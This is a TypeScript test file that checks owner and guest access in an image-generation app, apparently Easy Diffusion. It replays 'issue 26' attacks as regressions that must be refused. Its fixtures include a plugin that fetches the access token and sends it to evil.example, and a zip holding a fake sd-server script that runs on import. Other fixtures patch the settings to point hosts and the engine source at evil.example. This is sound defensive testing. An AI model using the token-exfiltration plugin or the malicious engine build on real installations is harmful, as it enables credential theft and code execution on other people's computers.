/**
 * Owner and guest on the fully wired app (every service as the executable
 * wires them): every route is in the roles table; a guest (a device on the
 * network with the token) gets 403 owner_only on every owner route with
 * nothing changed on disk, and is served on every guest route. Asked twice:
 * through the app's middleware in process with a LAN peer, and with curl from
 * a real network namespace where the machine allows one.
 * Then the findings of issue 26 as regressions, each with its reproduction.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { ZipFile } from "yazl";
import { ROUTE_ROLES } from "../../launcher/access/route-roles";
import { AccessToken } from "../../launcher/access/token";
import { SECRET_MASK } from "../../core/config/secrets";
import { readEnv } from "../../core/env";
import { silentLogger } from "../../core/log";
import { startApp, type RunningApp } from "../../launcher/start";
import { appServices } from "../../launcher/wiring";
import { assets } from "../../ui/dist/manifest";
import { answerOf, guestSweep, inProcessGuest, OWNER_ASKS, routeCases, type GuestSend } from "../faults/guests";
import { TELLTALES, writeSafetensors } from "../models/fixtures";
import { PhoneNamespace } from "./netns";

const phoneNs = new PhoneNamespace();
const netns = phoneNs.make();
let dir: string;
let app: RunningApp;
let token: string;
/** A local stand-in for Hugging Face (the configured models.huggingface_base): serves a small LoRA at any path. */
let hf: ReturnType<typeof Bun.serve>;
/** Another local server: not a configured model host. */
let other: ReturnType<typeof Bun.serve>;
const HF_TOKEN = "hf_secretSECRETsecret0123456789";
const CIVITAI_TOKEN = "civitai-secret-0123456789abcdef";

let loraBytes: Uint8Array<ArrayBuffer>;
const fileServer = () => Bun.serve({ port: 0, hostname: "127.0.0.1", fetch: () => new Response(loraBytes) });

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "ed-roles-"));
  writeSafetensors(join(dir, "lora.safetensors"), TELLTALES.lora_sd1!);
  loraBytes = new Uint8Array(readFileSync(join(dir, "lora.safetensors")));
  rmSync(join(dir, "lora.safetensors"));
  hf = fileServer();
  other = fileServer();
  writeFileSync(
    join(dir, "config.yaml"),
    [
      "ui:\n  open_window: false",
      "server:\n  allow_lan: true\n  allowed_hosts: [192.168.1.5]",
      "engine:\n  api_base: http://127.0.0.1:9/",
      `models:\n  huggingface_base: http://127.0.0.1:${hf.port}\n  civitai_base: http://127.0.0.1:9\n  civitai_lookup: false\n  huggingface_token: ${HF_TOKEN}\n  civitai_token: ${CIVITAI_TOKEN}`,
    ].join("\n") + "\n",
  );
  // With "other devices" on, the app listens on all interfaces: the phone's namespace reaches it.
  app = await startApp({
    run: { server: true, noOpen: true, dataDir: dir, port: 20000 + Math.floor(Math.random() * 30000) },
    env: { ...readEnv({}), edHome: undefined },
    services: appServices(),
    ui: assets,
    log: silentLogger,
  });
  token = new AccessToken(app.ctx.paths.lanToken).value;
});
afterAll(async () => {
  await app.stop();
  hf.stop(true);
  other.stop(true);
  if (netns) phoneNs.remove();
  rmSync(dir, { recursive: true, force: true });
});

const guest = (): GuestSend => inProcessGuest(app.app, app.port, token);
/** The phone in its namespace with the token (curl): the real LAN decision on a real socket. */
const phone: GuestSend = async (method, path, body) => {
  const args = ["-X", method, "-H", `Authorization: Bearer ${token}`, "-H", "Content-Type: application/json"];
  // The event stream never ends: its status is known once the headers are in.
  if (path === "/api/events") args.push("-m", "2");
  const [status, text] = await phoneNs.curl(`http://${phoneNs.hostIp}:${app.port}${path}`, body === undefined ? args : [...args, "--data-binary", "@-"], body);
  try {
    return { status, code: (JSON.parse(text) as { error?: { code?: string } })?.error?.code };
  } catch {
    return { status };
  }
};
/** This computer (a loopback peer over a real socket). */
const local = (path: string, init: RequestInit = {}) => fetch(new URL(path, app.url), { ...init, headers: { "content-type": "application/json", ...(init.headers as Record<string, string>) } });
const asGuest = (path: string, init: RequestInit = {}) =>
  app.app.request(
    `http://192.168.1.5:${app.port}${path}`,
    { ...init, headers: { host: `192.168.1.5:${app.port}`, authorization: `Bearer ${token}`, ...(init.headers as Record<string, string>) } },
    { requestIP: () => ({ address: "192.168.1.20", family: "IPv4", port: 40000 }) },
  );
const json = { "content-type": "application/json" };

describe("the roles table", () => {
  test("classifies every route of the wired app, and lists no route the app does not have", () => {
    const cases = routeCases(app.app);
    const keys = cases.map((c) => c.key);
    expect(keys.filter((k) => !(k in ROUTE_ROLES))).toEqual([]);
    expect(Object.keys(ROUTE_ROLES).filter((k) => !keys.includes(k))).toEqual([]);
    const owner = cases.filter((c) => c.who === "owner").length;
    const guest = cases.filter((c) => c.who === "guest").length;
    console.log(`roles: ${cases.length} routes, ${owner} owner-only, ${guest} guest`);
    expect(owner).toBeGreaterThanOrEqual(25);
    expect(guest).toBeGreaterThan(60);
    // Every owner route a guest may call with some bodies has a body asking for the owner's part in the sweep.
    for (const [key, rule] of Object.entries(ROUTE_ROLES)) if (rule.guestIf) expect(OWNER_ASKS).toHaveProperty([key]);
  });

  test("a route the table does not list is owner-only (in process, a LAN peer with the token)", async () => {
    // An unknown state-changing path under /api: no route answers it, and a guest is refused before the 404.
    const res = await asGuest("/api/not-a-route", { method: "POST", headers: json, body: "{}" });
    expect(res.status).toBe(403);
    expect(((await res.json()) as { error: { code: string; message: string } }).error).toEqual({ code: "owner_only", message: "Only the computer running Easy Diffusion can do this: this request is not open to other devices." });
    // This computer gets the 404.
    expect((await local("/api/not-a-route", { method: "POST", body: "{}" })).status).toBe(404);
  });
});

test("the API reference marks each operation's role; owner operations document 403 owner_only with the sentence", async () => {
  const doc = (await (await local("/api/openapi.json")).json()) as { paths: Record<string, Record<string, { "x-role": string; responses: Record<string, { content?: Record<string, { example?: { error?: { code: string; message: string } } }> }> }>> };
  const ops = Object.entries(doc.paths).flatMap(([path, methods]) => Object.entries(methods).map(([m, op]) => [`${m} ${path}`, op] as const));
  expect(ops.filter(([, op]) => op["x-role"] !== "owner" && op["x-role"] !== "guest").map(([k]) => k)).toEqual([]);
  const role = (key: string) => ops.find(([k]) => k === key)![1];
  expect(role("get /api/tasks")["x-role"]).toBe("guest");
  expect(role("post /sdapi/v1/txt2img")["x-role"]).toBe("guest");
  const install = role("post /api/plugins");
  expect(install["x-role"]).toBe("owner");
  expect(install.responses["403"]!.content!["application/json"]!.example!.error).toEqual({ code: "owner_only", message: "Only the computer running Easy Diffusion can do this: install a plugin (it runs in this computer's window)." });
  expect(role("delete /api/models/{kind}/{name}")["x-role"]).toBe("owner");
  // Each documented operation says what the table says.
  const table = new Map(Object.entries(ROUTE_ROLES).map(([k, r]) => [k.replace(/^(\w+) /, (_, m: string) => `${m.toLowerCase()} `).replace(/:([A-Za-z_][A-Za-z0-9_]*)(\{[^}]*\})?/g, "{$1}"), r.who]));
  expect(ops.filter(([k, op]) => table.get(k) !== op["x-role"]).map(([k, op]) => `${k}: ${op["x-role"]} in the docs, ${table.get(k)} in the table`)).toEqual([]);
});

describe.each([["in process (a LAN peer through the app's middleware)", false] as const, ["from a network namespace (curl)", true] as const])("every route as a guest, %s", (_name, viaNetns) => {
  test.skipIf(viaNetns && !netns)("owner routes: 403 owner_only, nothing changed on disk; guest routes: served", async () => {
    const sweep = await guestSweep(app.app, viaNetns ? phone : guest(), dir);
    console.log(`guest sweep ${viaNetns ? "(netns)" : "(in process)"}: ${sweep.owner} owner routes refused, ${sweep.guest} guest routes served, problems ${sweep.problems.length}`);
    expect(sweep.problems).toEqual([]);
    expect(sweep.changed).toEqual([]);
  }, 120_000);
});

describe("what a guest with the token found (issue 26), now refused", () => {
  test("an engine zip whose sd-server would run a program: 403 owner_only, nothing installed, the program never ran", async () => {
    const marker = join(dir, "pwned");
    const zip = new ZipFile();
    zip.addBuffer(Buffer.from(`#!/bin/sh\ntouch ${marker}\necho "Usage: sd-server"\n`), "evil/sd-server", { mode: 0o100755 });
    zip.end();
    const chunks: Buffer[] = [];
    for await (const c of zip.outputStream) chunks.push(c as Buffer);
    const res = await asGuest("/api/engine/import?name=evil.zip", { method: "POST", headers: { "content-type": "application/zip" }, body: Buffer.concat(chunks) });
    expect(res.status).toBe(403);
    expect(((await res.json()) as { error: { code: string; message: string } }).error.message).toBe("Only the computer running Easy Diffusion can do this: import an engine build (it is a program this computer would run).");
    expect(existsSync(marker)).toBe(false);
    expect(existsSync(join(dir, "engines")) ? readdirSync(join(dir, "engines")).filter((n) => n.startsWith("imported")) : []).toEqual([]);
  });

  test("typed-path import: a guest gets no nonce; this computer needs a one-time nonce, a forged Sec-Fetch-Site is not enough", async () => {
    const path = join(dir, "no-such-build.zip");
    expect((await asGuest("/api/engine/import/nonce", { method: "POST" })).status).toBe(403);
    expect((await asGuest("/api/engine/import", { method: "POST", headers: json, body: JSON.stringify({ path, confirm: true }) })).status).toBe(403);
    const forged = await local("/api/engine/import", { method: "POST", headers: { "sec-fetch-site": "same-origin" }, body: JSON.stringify({ path, confirm: true }) });
    expect(forged.status).toBe(403);
    expect(((await forged.json()) as { error: { code: string } }).error.code).toBe("confirm_expired");
    const { nonce } = (await (await local("/api/engine/import/nonce", { method: "POST" })).json()) as { nonce: string };
    const once = await local("/api/engine/import", { method: "POST", body: JSON.stringify({ path, confirm: true, nonce }) });
    // The nonce let it through to the import itself, which finds no build there.
    expect(((await once.json()) as { error: { code: string } }).error.code).toBe("verify_failed");
    const again = await local("/api/engine/import", { method: "POST", body: JSON.stringify({ path, confirm: true, nonce }) });
    expect(((await again.json()) as { error: { code: string } }).error.code).toBe("confirm_expired");
  });

  test("settings that widen access or move the engine's source: refused, config.yaml unchanged; the look of the app is the guest's to change", async () => {
    const file = join(dir, "config.yaml");
    const before = readFileSync(file, "utf8");
    for (const patch of [
      { server: { cors_origins: ["http://evil.example"] } },
      { server: { allowed_hosts: ["evil.example"] } },
      { engine: { api_base: "http://evil.example/" } },
      { engine: { release_repo: "evil/sd" } },
      { models: { guest_downloads: true } },
      { ui: { theme: "light" }, server: { allow_lan: false } },
    ]) {
      const res = await asGuest("/api/config", { method: "PATCH", headers: json, body: JSON.stringify(patch) });
      expect([res.status, ((await res.json()) as { error: { code: string } }).error.code]).toEqual([403, "owner_only"]);
    }
    expect(readFileSync(file, "utf8")).toBe(before);
    const look = await asGuest("/api/config", { method: "PATCH", headers: json, body: JSON.stringify({ ui: { theme: "light" } }) });
    expect(look.status).toBe(200);
    expect(readFileSync(file, "utf8")).toContain("theme: light");
  });

  test("a plugin that posts the token elsewhere: a guest cannot install it (upload or URL), turn plugins on or off, or remove them", async () => {
    const evil = 'export default async () => { const { token } = await (await fetch("/api/lan")).json(); await fetch("http://evil.example/?t=" + token); };';
    const form = new FormData();
    form.set("file", new File([evil], "evil.plugin.js", { type: "text/javascript" }));
    const upload = await asGuest("/api/plugins", { method: "POST", body: form });
    expect([upload.status, ((await upload.json()) as { error: { code: string } }).error.code]).toEqual([403, "owner_only"]);
    const byUrl = await asGuest("/api/plugins", { method: "POST", headers: json, body: JSON.stringify({ url: `http://127.0.0.1:${other.port}/evil.plugin.js` }) });
    expect(byUrl.status).toBe(403);
    expect(existsSync(join(dir, "plugins")) ? readdirSync(join(dir, "plugins")).filter((n) => n.endsWith(".js")) : []).toEqual([]);
    for (const [method, path] of [["PATCH", "/api/plugins/x.plugin.js"], ["DELETE", "/api/plugins/x.plugin.js"], ["POST", "/api/plugins/x.plugin.js/error"]] as const)
      expect((await asGuest(path, { method, headers: json, body: method === "DELETE" ? undefined : "{}" })).status).toBe(403);
    // A guest reads no token to send anywhere.
    expect(Object.keys((await (await asGuest("/api/lan")).json()) as object)).not.toContain("token");
    expect((await asGuest("/api/lan/token", { method: "POST" })).status).toBe(403);
  });

  test("the Hugging Face and Civitai tokens never leave the server, locally or to a guest; sending the mask back keeps them; the owner replaces and clears them", async () => {
    for (const res of [await local("/api/config"), await asGuest("/api/config")]) {
      const text = await res.text();
      expect(text).not.toContain(HF_TOKEN);
      expect(text).not.toContain(CIVITAI_TOKEN);
      const models = (JSON.parse(text) as { config: { models: Record<string, unknown> } }).config.models;
      expect([models.huggingface_token, models.civitai_token]).toEqual([SECRET_MASK, SECRET_MASK]);
    }
    const file = join(dir, "config.yaml");
    // The Settings form sends the mask back unchanged (with another edit): the stored token stays.
    const back = await local("/api/config", { method: "PATCH", body: JSON.stringify({ models: { huggingface_token: SECRET_MASK, civitai_token: SECRET_MASK, warm_start: false } }) });
    expect(back.status).toBe(200);
    expect(await back.text()).not.toContain(HF_TOKEN);
    expect(app.ctx.config.config.models.huggingface_token).toBe(HF_TOKEN);
    expect(readFileSync(file, "utf8")).toContain(HF_TOKEN);
    // Replaced, then cleared (an empty field), by the owner.
    await local("/api/config", { method: "PATCH", body: JSON.stringify({ models: { civitai_token: "civitai-new-token" } }) });
    expect(app.ctx.config.config.models.civitai_token).toBe("civitai-new-token");
    const cleared = (await (await local("/api/config", { method: "PATCH", body: JSON.stringify({ models: { civitai_token: "" } }) })).json()) as { config: { models: Record<string, unknown> } };
    expect(cleared.config.models.civitai_token).toBe("");
    expect(app.ctx.config.config.models.civitai_token).toBe("");
    // A guest cannot change a token.
    expect((await asGuest("/api/config", { method: "PATCH", headers: json, body: JSON.stringify({ models: { huggingface_token: "x" } }) })).status).toBe(403);
  });

  test("importing a folder into the Gallery: refused for a guest, nothing indexed", async () => {
    const folder = join(dir, "private-pictures");
    mkdirSync(folder, { recursive: true });
    const res = await asGuest("/api/gallery/import", { method: "POST", headers: json, body: JSON.stringify({ folder }) });
    expect([res.status, ((await res.json()) as { error: { code: string } }).error.code]).toEqual([403, "owner_only"]);
    const facets = (await (await asGuest("/api/gallery/facets")).json()) as { folders: { path?: string }[] | string[] };
    expect(JSON.stringify(facets.folders)).not.toContain("private-pictures");
    // Deleting pictures is the owner's too.
    expect((await asGuest("/api/gallery/delete", { method: "POST", headers: json, body: JSON.stringify({ ids: [1] }) })).status).toBe(403);
  });

  test("model downloads: refused for a guest by default; allowed by the owner's setting, then only from the configured hosts", async () => {
    const lora = join(dir, "models", "lora");
    const ask = (url: string, name: string) => asGuest("/api/models/download", { method: "POST", headers: json, body: JSON.stringify({ url, kind: "lora", name }) });
    const off = await ask(`http://127.0.0.1:${hf.port}/a/b/resolve/main/one.safetensors`, "one.safetensors");
    expect([off.status, ((await off.json()) as { error: { code: string } }).error.code]).toEqual([403, "owner_only"]);
    expect((await local("/api/config", { method: "PATCH", body: JSON.stringify({ models: { guest_downloads: true } }) })).status).toBe(200);
    try {
      const elsewhere = await ask(`http://127.0.0.1:${other.port}/two.safetensors`, "two.safetensors");
      expect([elsewhere.status, ((await elsewhere.json()) as { error: { code: string; message: string } }).error.code]).toEqual([403, "owner_only"]);
      const allowed = await ask(`http://127.0.0.1:${hf.port}/a/b/resolve/main/one.safetensors`, "one.safetensors");
      expect(allowed.status).toBe(202);
      const deadline = Date.now() + 10_000;
      while (!existsSync(join(lora, "one.safetensors")) && Date.now() < deadline) await Bun.sleep(20);
      expect(new Uint8Array(readFileSync(join(lora, "one.safetensors")))).toEqual(loraBytes);
      expect(existsSync(join(lora, "two.safetensors"))).toBe(false);
      // Deleting a model stays the owner's.
      expect((await asGuest("/api/models/lora/one.safetensors", { method: "DELETE" })).status).toBe(403);
    } finally {
      await local("/api/config", { method: "PATCH", body: JSON.stringify({ models: { guest_downloads: false } }) });
    }
  });

  test("GET /api/session says the role; a guest's open tabs never replace this computer's", async () => {
    expect(((await (await local("/api/session")).json()) as { role: string }).role).toBe("owner");
    const view = (await (await asGuest("/api/session")).json()) as { role: string; guest_downloads: boolean; owner_only: string };
    expect(view).toMatchObject({ role: "guest", guest_downloads: false });
    expect(view.owner_only).toStartWith("Only the computer running Easy Diffusion can do this:");
    const mine = { tabs: [{ id: "a", app: "image" }], active: "a" };
    expect((await local("/api/ui-state", { method: "PUT", body: JSON.stringify(mine) })).status).toBe(200);
    expect((await asGuest("/api/ui-state", { method: "PUT", headers: json, body: JSON.stringify({ tabs: [{ id: "p", app: "gallery" }], active: "p" }) })).status).toBe(200);
    expect(await (await local("/api/ui-state")).json()).toEqual(mine);
    expect(((await (await asGuest("/api/ui-state")).json()) as { active: string }).active).toBe("p");
  });

  test("a guest removes tasks from the lists but does not delete their pictures", async () => {
    const keep = await asGuest("/api/tasks/remove", { method: "POST", headers: json, body: JSON.stringify({ finished: true }) });
    expect(keep.status).not.toBe(403);
    const del = await asGuest("/api/tasks/remove", { method: "POST", headers: json, body: JSON.stringify({ finished: true, delete_pictures: true }) });
    expect(del.status).toBe(403);
    expect((await answerOf(await asGuest("/api/queue"))).status).toBe(200);
  });
});
